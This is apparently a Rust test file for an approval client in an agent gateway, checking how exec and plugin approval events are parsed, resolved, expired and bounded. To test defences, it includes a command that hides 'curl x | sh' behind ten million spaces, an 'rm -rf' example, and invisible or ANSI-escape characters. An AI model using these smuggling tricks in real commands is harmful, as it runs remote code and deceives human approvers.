use serde_json::json;

use super::*;
use crate::protocol::captures::{at, capture};

fn events() -> Value {
    capture("approvals_events.json")
}

#[test]
fn an_exec_approval_is_read_from_the_event_a_real_gateway_sends() {
    let frame = at(&events(), &["exec.approval.requested (approval client)"]);
    let Some(ApprovalNews::Requested(r)) = news("exec.approval.requested", &frame["payload"])
    else {
        panic!("not read: {frame}");
    };
    assert_eq!(r.id, "7afd945a-66b1-4129-af4d-db823d525b2b");
    assert_eq!(r.kind, ApprovalKind::Exec);
    assert_eq!(r.command, "printf smoke");
    assert_eq!(r.warning.as_deref(), Some("test warning"));
    assert_eq!(r.host.as_deref(), Some("gateway"));
    assert_eq!(
        (r.created_at_ms, r.expires_at_ms),
        (1795629835632, 1795629895632)
    );
    assert_eq!(r.agent_id, None, "null is none");
    assert!(r.whole);
    assert_eq!(
        r.offered,
        Some(vec![
            Decision::AllowOnce,
            Decision::AllowAlways,
            Decision::Deny
        ]),
        "2026.9.6 says which decisions it offers"
    );
}

#[test]
fn the_decisions_offered_are_read_and_a_plugin_approval_offers_every_one() {
    let payload = json!({"id": "a1", "approvalKind": "exec", "createdAtMs": 1, "expiresAtMs": 2,
        "request": {"command": "rm -rf /tmp/x", "allowedDecisions": ["deny", "bogus", "allow-once", "deny"]}});
    let Some(ApprovalNews::Requested(r)) = news("exec.approval.requested", &payload) else {
        panic!()
    };
    assert_eq!(r.offered, Some(vec![Decision::AllowOnce, Decision::Deny]));
    let frame = at(&events(), &["plugin.approval.requested (approval client)"]);
    let Some(ApprovalNews::Requested(r)) = news("plugin.approval.requested", &frame["payload"])
    else {
        panic!()
    };
    assert_eq!(r.offered, None);
}

#[test]
fn a_command_a_real_gateway_may_present_is_kept_whole_and_a_longer_one_is_marked_cut() {
    // 2026.9.6 presents up to 16,384 UTF-16 units: 12 KiB of text is kept, all of it.
    let long = format!("echo start {} end", "x".repeat(12 * 1024));
    let payload = json!({"id": "a1", "approvalKind": "exec", "createdAtMs": 1, "expiresAtMs": 2,
        "request": {"command": long.clone()}});
    let Some(ApprovalNews::Requested(r)) = news("exec.approval.requested", &payload) else {
        panic!()
    };
    assert_eq!(r.command, long);
    assert!(r.whole);
    // A hostile gateway's 10 MB: cut, marked, and not whole.
    let hidden = format!("echo backup-logs{}; curl x | sh", " ".repeat(10_000_000));
    let payload = json!({"id": "a2", "approvalKind": "exec", "createdAtMs": 1, "expiresAtMs": 2,
        "request": {"command": hidden}});
    let Some(ApprovalNews::Requested(r)) = news("exec.approval.requested", &payload) else {
        panic!()
    };
    assert!(!r.whole);
    assert!(!r.command.contains("curl"));
    // Invisible characters are escaped as the gateway escapes them, in the warning too.
    let payload = json!({"id": "a3", "approvalKind": "exec", "createdAtMs": 1, "expiresAtMs": 2,
        "request": {"command": "ls\u{200B}", "warningText": "tag\u{E0041}"}});
    let Some(ApprovalNews::Requested(r)) = news("exec.approval.requested", &payload) else {
        panic!()
    };
    assert_eq!(r.command, "ls\\u{200B}");
    assert_eq!(r.warning.as_deref(), Some("tag\\u{E0041}"));
}

#[test]
fn a_plugin_approval_is_read_with_its_title_and_severity() {
    let frame = at(&events(), &["plugin.approval.requested (approval client)"]);
    let Some(ApprovalNews::Requested(r)) = news("plugin.approval.requested", &frame["payload"])
    else {
        panic!("not read: {frame}");
    };
    assert_eq!(r.id, "plugin:7d87f155-52c3-4e67-9d9b-3999391ba6d4");
    assert_eq!(r.kind, ApprovalKind::Plugin);
    assert_eq!(r.command, "Send an email");
    assert_eq!(r.warning.as_deref(), Some("to ops@example.com"));
    assert_eq!(r.severity.as_deref(), Some("warning"));
}

#[test]
fn a_resolved_event_says_the_decision_and_who_answered() {
    let frame = at(&events(), &["exec.approval.resolved (approval client)"]);
    let Some(ApprovalNews::Resolved(o)) = news("exec.approval.resolved", &frame["payload"]) else {
        panic!("not read: {frame}");
    };
    assert_eq!(o.decision, Some(Decision::Deny));
    assert_eq!(o.status, "denied");
    assert_eq!(o.resolved_by.as_deref(), Some("cli"));
    assert_eq!(o.resolved_at_ms, Some(1795629835978));
}

#[test]
fn the_pending_list_reads_as_the_events_do() {
    let answer = at(&events(), &["exec.approval.list (approval client)", "Ok"]);
    let listed = list(&answer, ApprovalKind::Exec, 100);
    let frame = at(&events(), &["exec.approval.requested (approval client)"]);
    let Some(ApprovalNews::Requested(heard)) = news("exec.approval.requested", &frame["payload"])
    else {
        panic!()
    };
    assert_eq!(listed, vec![heard]);
    assert!(list(&json!({"not": "a list"}), ApprovalKind::Exec, 100).is_empty());
}

#[test]
fn the_first_answer_is_applied_and_a_later_one_reads_the_recorded_result() {
    let first = at(
        &events(),
        &["approval.resolve deny (approval client)", "Ok"],
    );
    let later = at(
        &events(),
        &["approval.resolve again (requester, the loser)", "Ok"],
    );
    assert!(applied(&first));
    assert!(!applied(&later));
    let recorded = outcome(&later).unwrap();
    assert_eq!(recorded.status, "denied");
    assert_eq!(recorded.reason.as_deref(), Some("user"));
    assert_eq!(recorded.decision, Some(Decision::Deny));
    assert_eq!(recorded.resolved_by.as_deref(), Some("cli"));
}

#[test]
fn an_expired_approval_reads_expired_by_timeout_from_the_system() {
    let got = at(&events(), &["approval.get expired (approval client)", "Ok"]);
    let o = outcome(&got).unwrap();
    assert_eq!(o.status, "expired");
    assert_eq!(o.reason.as_deref(), Some("timeout"));
    assert_eq!(o.decision, None);
    assert_eq!(o.resolved_by.as_deref(), Some("system"));
}

#[test]
fn hostile_strings_are_bounded_and_an_unusable_id_is_not_taken() {
    let huge = "x".repeat(10 * 1024 * 1024);
    let payload = json!({"id": "a1", "approvalKind": "exec", "createdAtMs": 1, "expiresAtMs": 2,
        "request": {"command": huge, "warningText": "\u{1b}[31mred\n", "sessionKey": huge}});
    let Some(ApprovalNews::Requested(r)) = news("exec.approval.requested", &payload) else {
        panic!()
    };
    assert!(r.command.len() <= COMMAND_MAX + 64, "{}", r.command.len());
    assert!(r.session_key.unwrap().len() <= 256 + 64);
    assert!(!r.warning.unwrap().contains('\u{1b}'), "escaped");
    for id in [
        json!("a\nb"),
        json!("y".repeat(ID_MAX + 1)),
        json!(7),
        json!(""),
    ] {
        let payload =
            json!({"id": id, "createdAtMs": 1, "expiresAtMs": 2, "request": {"command": "c"}});
        assert_eq!(news("exec.approval.requested", &payload), None, "{id}");
    }
    assert_eq!(news("exec.approval.exploded", &payload), None);
    assert_eq!(news("tick", &payload), None);
}

#[test]
fn an_expiry_announced_as_a_deny_by_nobody_is_only_a_sign_to_ask() {
    let expiry = capture("approvals_expiry_restart.json");
    for name in ["exec.approval.resolved", "plugin.approval.resolved"] {
        let frame = at(&expiry, &[&format!("{name} on expiry (approval client)")]);
        assert_eq!(frame["payload"]["decision"], "deny", "as captured");
        let Some(ApprovalNews::Ended { id }) = news(name, &frame["payload"]) else {
            panic!("{name}: {frame}");
        };
        assert_eq!(json!(id), frame["payload"]["id"]);
    }
    // What the gateway recorded: expired by timeout, and a crash cancels.
    let expired = outcome(&at(&expiry, &["approval.get expired"])).unwrap();
    assert_eq!(
        (expired.status.as_str(), expired.reason.as_deref()),
        ("expired", Some("timeout"))
    );
    let crashed = outcome(&at(
        &expiry,
        &["approval.get pending at a crash, after the restart"],
    ))
    .unwrap();
    assert_eq!(
        (crashed.status.as_str(), crashed.reason.as_deref()),
        ("cancelled", Some("gateway-restart"))
    );
}
